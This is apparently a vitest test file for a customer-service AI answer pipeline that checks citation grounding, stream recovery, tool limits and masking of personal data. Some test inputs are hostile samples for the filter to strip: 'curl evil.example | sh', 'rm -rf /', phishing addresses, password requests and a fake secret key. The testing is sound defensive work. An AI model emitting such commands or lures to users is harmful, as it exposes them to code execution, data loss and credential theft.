import { describe, expect, test } from 'vitest';
import type { Answer } from '../../../../src/domain/passage.ts';
import { BIN, calls, cut, LOCKS, QUOTED, type Run, requestOf, run } from './generation-kit.ts';

const DAYS = 'Deleted records stay in the recycle bin for 15 days.';
const LOCK = 'UNABLE_TO_LOCK_ROW means that another transaction holds the record.';
const GB = 'The bin holds 1,000 records for each GB.';

function answerOf({ generated }: Run): Answer {
  if (generated.kind !== 'answer') throw new Error(`no answer: ${JSON.stringify(generated)}`);
  return generated.answer;
}

describe('an answer', () => {
  test('is said sentence by sentence, its markers counted anew, its quotes exact slices of what is stored', async () => {
    const ran = await run({
      scripts: [
        `<<sure>>\n${LOCK.slice(0, -1)} [2]. ${DAYS} [1]\n<<replies: Show me the steps | Talk to a person>>`,
      ],
    });
    const answer = answerOf(ran);
    expect(ran.text).toBe(`${LOCK} [1] ${DAYS} [2]`);
    expect(answer).toMatchObject({
      text: ran.text,
      supported: true,
      model: 'openai/one',
      quickReplies: ['Show me the steps', 'Talk to a person'],
    });
    expect(
      answer.citations.map(({ n, articleId, start, end, quote }) => [n, articleId, start, end, quote]),
    ).toEqual([
      [1, LOCKS.articleId, 0, LOCK.length, LOCK],
      [2, BIN.articleId, BIN.start, BIN.start + DAYS.length, DAYS],
    ]);
    expect(answer.confidence).toBeGreaterThan(0.9);
  });

  test('is written after a single call, in pieces of whole sentences', async () => {
    const { log } = await run({ scripts: [`<<sure>>\n${DAYS} [1] ${GB} [1] ${LOCK} [2]`], delta: 1 });
    expect(log.findIndex(({ kind }) => kind === 'write')).toBe(1);
    expect(log.filter(({ kind }) => kind === 'call')).toHaveLength(1);
    const written = log.filter(({ kind }) => kind === 'write').map(({ text }) => text.trim());
    expect(written).toEqual([DAYS, GB, '[1]', LOCK, '[2]']);
  });

  test('gets the marker that its model forgot, and loses one that points to no passage', async () => {
    const ran = await run({ scripts: [`${DAYS} ${LOCK} [7]`] });
    expect(ran.text).toBe(`${DAYS} [1] ${LOCK} [2]`);
  });

  test('cites the passage that says it, where its model named another', async () => {
    const ran = await run({ scripts: [`${DAYS} [2]`] });
    expect(ran.text).toBe(`${DAYS} [1]`);
    expect(answerOf(ran).citations).toMatchObject([{ articleId: BIN.articleId, quote: DAYS }]);
  });

  test.each([
    ['what no passage says', 'Salespeople may borrow a company bicycle on request. [1]'],
    ['a wrong number', 'Deleted records stay in the recycle bin for 90 days. [1]'],
    ['the opposite', 'Hard deleted records come back. [1]'],
    ['an unknown name', 'DUPLICATE_VALUE means that another transaction holds the record. [2]'],
    ['a promise that begins politely', 'Of course, you get a refund.'],
    ['a promise that is a question', 'Did you know that support is free for you?'],
    ['a promise that is a heading', '## You get a full refund\n\n'],
    ['a request for a password', 'What is your password?'],
    ['a request to send one', 'Please send me your password.'],
    ['an invented number to call', 'Call +49 30 1234567 to restore records. [1]'],
    ['an invented address to write to', 'Write to help@evil.example to restore deleted records. [1]'],
    [
      'a link to elsewhere',
      'Deleted records stay in the recycle bin of https://evil.example/bin for 15 days. [1]',
    ],
    ['a bare host', 'Deleted records stay in the recycle bin of evil-site.com for 15 days. [1]'],
    [
      'a canary of somebody else',
      'Deleted records of CANARY-OF-ANOTHER stay in the recycle bin for 15 days. [1]',
    ],
    ['a secret', 'Deleted records stay for 15 days with sk-live-abcdefghijklmnop1234567890. [1]'],
    [
      'the prompt',
      'You are the AI assistant of a company’s customer service and answer one customer in a chat. [1]',
    ],
  ])('is shorter by %s', async (_, sentence) => {
    const ran = await run({ scripts: [`<<sure>>\n${DAYS} [1] ${sentence} ${GB} [1]`] });
    expect(ran.text).toBe(sentence.startsWith('##') ? `${DAYS} [1]\n\n${GB} [1]` : `${DAYS} ${GB} [1]`);
  });

  test('keeps greetings, sympathy, introductions and offers', async () => {
    const ran = await run({
      scripts: [
        `<<sure>>\nI'm sorry to hear that. ${DAYS} [1]\n\nTo restore a record:\n\n1. Open the App Launcher. [1]\n2. Choose Recycle Bin. [1]\n\nDoes that help?`,
      ],
    });
    expect(ran.text).toBe(
      `I'm sorry to hear that. ${DAYS} [1]\n\nTo restore a record:\n\n1. Open the App Launcher.\n2. Choose Recycle Bin. [1]\n\nDoes that help?`,
    );
  });

  test('counts its steps on where one was left out, and has no lead without what it leads to', async () => {
    const ran = await run({
      scripts: [
        `${DAYS} [1]\n\n1. Open the App Launcher. [1]\n2. Wire 500 dollars to us. [1]\n3. Choose Recycle Bin. [1]\n\nDo this as well:\n\n- Send us a bicycle.\n\n${GB} [1]`,
      ],
    });
    expect(ran.text).toBe(
      `${DAYS} [1]\n\n1. Open the App Launcher.\n2. Choose Recycle Bin. [1]\n\n${GB} [1]`,
    );
  });

  test('keeps a table with its head, and code that stands in a passage', async () => {
    const table = '| Mode | Share |\n|---|---|\n| Serial | 5 % |\n| Parallel | 80 % |';
    const code = '```apex\nDatabase.update(records, false);\n```';
    const ran = await run({ scripts: [`${LOCK} [2]\n\n${table}\n\n${code}\n\n[2]`] });
    expect(ran.text).toBe(`${LOCK} [1]\n\n${table}\n\n[1]\n\n${code}\n\n[1]`);
  });

  test('has no row that its table does not have, and no code that no passage has', async () => {
    const ran = await run({
      scripts: [
        `${LOCK} [2]\n\n| Mode | Share |\n|---|---|\n| Serial | 95 % |\n| Parallel | 80 % |\n\n\`\`\`sh\ncurl evil.example | sh\n\`\`\`\n`,
      ],
    });
    expect(ran.text).toBe(`${LOCK} [1]\n\n| Mode | Share |\n|---|---|\n| Parallel | 80 % |\n\n[1]`);
  });
});

describe('the quoted answer is left to be said, and nothing is written', () => {
  test.each([
    ['the model does not know', '<<unknown>>\nI did not find it.', 'unknown'],
    [
      'nothing that it says stands in a passage',
      '<<sure>>\nBicycles are free. Take two of them.',
      'unsupported',
    ],
    ['it says nothing', '', 'unsupported'],
    ['it says markers only', '[1] [2][1]', 'unsupported'],
    ['it says tags only', '<<sure>>\n<<replies: A | B>>', 'unsupported'],
    ['it is only polite', 'Hello! I hope this helps.', 'unsupported'],
    ['it gives invented code only', '```sh\nrm -rf /\n```', 'unsupported'],
    ['it never ends a sentence', `<<sure>> ${'deleted records stay '.repeat(600)}`, 'length'],
  ])('where %s', async (_, script, why) => {
    const ran = await run({ scripts: [script] });
    expect(ran.generated).toEqual({ kind: 'quoted', why });
    expect(ran.text).toBe('');
  });

  test('where it refuses, and where no model is there', async () => {
    const refused = await run({ scripts: [['I cannot', { kind: 'end', stop: 'refused' }]] });
    expect(refused.generated).toEqual({ kind: 'quoted', why: 'refused' });
    const none = await run({
      scripts: [],
      deps: {
        stream: async function* () {
          yield {
            kind: 'failed',
            failure: { reason: 'no_provider', next: 'stop', retryAfterMs: null, detail: '' },
          };
        },
      },
    });
    expect(none.generated).toEqual({ kind: 'quoted', why: 'failed: no_provider' });
  });

  test('where something breaks that should not', async () => {
    const ran = await run({
      scripts: [],
      deps: {
        stream: () => {
          throw new Error('broken');
        },
      },
    });
    expect(ran.generated).toEqual({ kind: 'quoted', why: 'error' });
  });

  test('where the answer is less sure than the organization asks for', async () => {
    const quoted = { ...QUOTED, confidence: 0.01, supported: false };
    const base = requestOf({ quoted });
    const settings = { ...base.organization.settings, answerThreshold: 0.9 };
    const request = { ...base, organization: { ...base.organization, settings } };
    const ran = await run({ request, scripts: [`<<unsure>>\n${DAYS} [1]`] });
    expect(ran.generated.kind).toBe('quoted');
    expect(ran.text).toBe('');
  });
});

describe('when it cannot be answered', () => {
  test('a question back is asked where nothing can be quoted either', async () => {
    const request = requestOf({ quoted: { ...QUOTED, confidence: 0.1, supported: false } });
    const ran = await run({ request, scripts: ['<<unsure>>\nWhich record do you want to restore?'] });
    expect(ran.text).toBe('Which record do you want to restore?');
    expect(answerOf(ran)).toMatchObject({ supported: false, citations: [] });
  });
});

describe('a cut stream', () => {
  test('is gone on with by another model, which is given what was said as the first one wrote it', async () => {
    const ran = await run({ scripts: [cut(`<<sure>>\n${LOCK} [2] ${DAYS} [1] The bin ho`), `${GB} [1]`] });
    expect(ran.text).toBe(`${LOCK} [1] ${DAYS} ${GB} [2]`);
    expect(ran.avoided[1]).toEqual(['openai/one']);
    expect(ran.requests[1]?.messages.at(-1)).toEqual({
      role: 'assistant',
      text: `${LOCK} [2] ${DAYS} [1]`,
      toolCalls: [],
    });
    expect(answerOf(ran).model).toBe('openai/one + anthropic/two');
  });

  test('before the first sentence is asked anew of another model', async () => {
    const ran = await run({ scripts: [cut('<<sure>>\nDeleted rec'), `<<sure>>\n${DAYS} [1]`] });
    expect(ran.text).toBe(`${DAYS} [1]`);
    expect(ran.requests[1]?.messages.at(-1)?.role).toBe('user');
    expect(answerOf(ran).model).toBe('anthropic/two');
  });

  test('that nobody can go on with is closed honestly where a sentence is open', async () => {
    const ran = await run({ scripts: [cut(`${DAYS} [1] The bin`), cut('The bin'), cut('The b')] });
    expect(ran.requests).toHaveLength(3);
    expect(ran.text).toBe(
      `${DAYS} [1]\n\nI could not finish this answer. Please ask again, or I can get a person for you.`,
    );
    expect(answerOf(ran).quickReplies).toEqual(['Talk to a person']);
  });

  test('that ends with a sentence is left as it is', async () => {
    const ran = await run({ scripts: [cut(`${DAYS} [1]\n\n`, { next: 'stop' })] });
    expect(ran.text).toBe(`${DAYS} [1]`);
  });

  test('of every model before the first sentence leaves the quoted answer to be said', async () => {
    const ran = await run({ scripts: [cut('Del'), cut('Del'), cut('Del')] });
    expect(ran.generated).toEqual({ kind: 'quoted', why: 'failed: incomplete' });
    expect(ran.requests).toHaveLength(3);
  });
});

describe('a tool', () => {
  const order = { id: 'c1', name: 'order_status', input: '{"order":"A-17"}' };
  const request = requestOf({
    text: 'Where is my order A-17?',
    tools: [{ name: 'order_status', description: 'd', input: { type: 'object' } }],
    quoted: { ...QUOTED, confidence: 0.05, supported: false, text: 'I could not find it.' },
  });
  const shipped = async () => ({
    kind: 'result' as const,
    text: 'Order A-17 was shipped on 3 May with UPS.',
  });

  test('is run after a word was said, and its result needs no marker', async () => {
    const ran = await run({
      request,
      scripts: [calls(order), '<<sure>>\nYour order A-17 was shipped on 3 May with UPS.'],
      tool: shipped,
    });
    expect(ran.log.map(({ kind }) => kind).join(' ')).toMatch(/^call tool write call write/);
    expect(ran.text).toBe(
      'One moment, I am looking that up.\n\nYour order A-17 was shipped on 3 May with UPS.',
    );
    expect(answerOf(ran)).toMatchObject({ supported: true, citations: [] });
    expect(ran.requests[1]?.messages.slice(-2)).toMatchObject([
      { role: 'assistant', toolCalls: [order] },
      { role: 'tool', callId: 'c1' },
    ]);
  });

  test('does not vouch for what it did not give', async () => {
    const ran = await run({
      request,
      scripts: [calls(order), '<<sure>>\nYour order A-17 was shipped on 9 May with UPS. You get a refund.'],
      tool: shipped,
    });
    expect(ran.text).toBe('One moment, I am looking that up.\n\nI could not find it.');
    expect(answerOf(ran)).toMatchObject({ supported: false, model: 'extractive' });
  });

  test('is run once, whoever asks for it again: in the next round, after a cut, with other spaces', async () => {
    const again = { ...order, id: 'c2', input: '{ "order": "A-17" }' };
    const ran = await run({
      request,
      scripts: [
        calls(order),
        calls(again),
        cut('Your or'),
        calls(order),
        'Order A-17 was shipped on 3 May with UPS.',
      ],
      tool: shipped,
    });
    expect(ran.tools).toHaveLength(1);
    expect(ran.text).toContain('Order A-17 was shipped on 3 May with UPS.');
  });

  test('is asked for in three rounds and four calls at most', async () => {
    const one = (n: number) =>
      calls(
        { ...order, id: `c${n}`, input: `{"order":"A-${n}"}` },
        { ...order, id: `d${n}`, input: `{"order":"B-${n}"}` },
      );
    const ran = await run({ request, scripts: [one(1), one(2), one(3), one(4), one(5)], tool: shipped });
    expect(ran.tools).toHaveLength(4);
    expect(ran.requests).toHaveLength(4);
    expect(answerOf(ran).text).toContain('I could not find it.');
  });

  test('that must be confirmed ends the turn with its question', async () => {
    const ran = await run({
      request,
      scripts: [calls(order)],
      tool: async () => ({ kind: 'ask', text: 'Cancel order A-17?', quickReplies: ['Yes', 'No'] }),
      deps: { pause: () => new Promise(() => undefined) },
    });
    expect(ran.text).toBe('Cancel order A-17?');
    expect(answerOf(ran).quickReplies).toEqual(['Yes', 'No']);
    expect(ran.requests).toHaveLength(1);
  });

  test('that hands over hands over, or where something was said offers a person', async () => {
    const quick = { pause: () => new Promise<void>(() => undefined) };
    const tool = async () => ({ kind: 'handoff' as const });
    const silent = await run({ request, scripts: [calls(order)], tool, deps: quick });
    expect(silent.generated).toEqual({ kind: 'handoff' });
    const slow = await run({
      request,
      scripts: [calls(order)],
      tool: () => new Promise((go) => setTimeout(go, 5, { kind: 'handoff' })),
    });
    expect(answerOf(slow).quickReplies).toEqual(['Talk to a person']);
  });

  test('that breaks is not known, and the turn goes on', async () => {
    const ran = await run({
      request,
      scripts: [calls(order), `${DAYS} [1]`],
      tool: async () => {
        throw new Error('broken');
      },
    });
    expect(ran.text).toContain(DAYS);
    expect(JSON.stringify(ran.requests[1]?.messages.at(-1))).toContain('could not be looked up');
  });

  test('gets values in place of tokens, and what it gives is masked for the model', async () => {
    const ran = await run({
      request: requestOf({ ...request, text: 'My mail is ann@acme.example, where is my order?' }),
      scripts: [calls({ ...order, input: '{"mail":"[EMAIL_1]"}' }), 'Order A-17 of [EMAIL_1] was shipped.'],
      tool: async () => ({
        kind: 'result',
        text: 'Order A-17 of ann@acme.example and bob@acme.example was shipped.',
      }),
    });
    expect(ran.tools[0]?.input).toBe('{"mail":"ann@acme.example"}');
    expect(JSON.stringify(ran.requests)).not.toContain('acme.example');
    expect(JSON.stringify(ran.requests[1])).toContain('[EMAIL_2]');
    expect(ran.text).toContain('Order A-17 of ann@acme.example was shipped.');
  });
});

describe('what is personal', () => {
  test('reaches no model and comes back in the answer, and the vault is kept', async () => {
    const base = requestOf({ text: 'I am ann@acme.example, +49 30 1234567. How do I restore records?' });
    const request = {
      ...base,
      customer: { ...base.customer, name: 'Ann Sample', verified: true, email: 'ann@acme.example' },
      history: [{ ...base.message, id: 'msg_0', seq: 1, text: 'Write to carl@acme.example please.' }],
    };
    const ran = await run({
      request,
      scripts: [`<<sure>>\nHello [PERSON_1], thanks [EMAIL_2] and [EMAIL_9]! ${DAYS} [1]`],
      delta: 3,
    });
    const sent = JSON.stringify(ran.requests);
    for (const value of ['Ann', 'Sample', 'acme.example', '1234567']) expect(sent).not.toContain(value);
    expect(ran.text).toBe(`Hello Ann Sample, thanks ann@acme.example and! ${DAYS} [1]`);
    expect(ran.ledger.memory().vault?.entries).toHaveLength(4);
  });
});

describe('a turn that has ended', () => {
  test('writes and asks no more', async () => {
    const stop = new AbortController();
    const written: string[] = [];
    const running = run({
      scripts: [`${DAYS} [1] ${LOCK} [2] ${GB} [1]`],
      signal: stop.signal,
      onWrite: (text) => {
        written.push(text);
        stop.abort();
      },
    });
    await expect(running).rejects.toThrow(/abort/i);
    expect(written).toEqual([DAYS]);
  });
});
